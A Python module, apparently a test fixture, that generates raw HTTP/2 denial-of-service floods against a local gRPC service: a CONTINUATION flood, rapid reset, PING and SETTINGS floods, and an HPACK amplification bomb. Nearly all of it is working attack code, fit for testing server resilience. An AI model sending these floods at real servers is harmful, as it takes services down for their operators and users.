"""Floods of HTTP/2 (RFC 9113) that a hostile peer sends after the preface, without an end."""

HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Encodes a header (RFC 7541) whose bytes begin with `name`; the value has at most 126 bytes."""
    return name + bytes([len(value)]) + value


OPENING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
REQUEST = (b"\x83\x87" + literal(b"\x04", b"/semrank.v1.RankingService/Rank") + literal(b"\x01", b"localhost")
           + literal(b"\x0f\x10", b"application/grpc") + literal(b"\x00\x02te", b"trailers"))


def continuation():
    """A header block that never ends."""
    yield frame(HEADERS, 0, 1, REQUEST)
    junk = b"".join(literal(b"\x00\x06x-junk", b"j" * 100) for _ in range(140))
    while True:
        yield frame(CONTINUATION, 0, 1, junk)


def rapid_reset():
    for stream in range(1, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, stream, REQUEST) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def pings():
    while True:
        yield frame(PING, 0, 0, b"flooding") * 100


def settings():
    while True:
        yield frame(SETTINGS, 0, 0, b"\0\x04\0\x01\0\0" * 10) * 20


def hpack_bomb():
    """One large entry of the dynamic table, referred to thousands of times."""
    entry = b"\x40\x01b" + b"\x7f" + (3900 - 127 + 128 & 0x7F | 0x80).to_bytes(1, "big") + ((3900 - 127) >> 7).to_bytes(1, "big")
    value = b"b" * (((3900 - 127) >> 7 << 7) + (3900 - 127 + 128 & 0x7F) + 127)
    yield frame(HEADERS, END_HEADERS, 1, REQUEST + entry + value)
    for stream in range(3, 1 << 30, 2):
        yield frame(HEADERS, END_HEADERS, stream, REQUEST + b"\xbe" * 16000)


FLOODS = (continuation, rapid_reset, pings, settings, hpack_bomb)
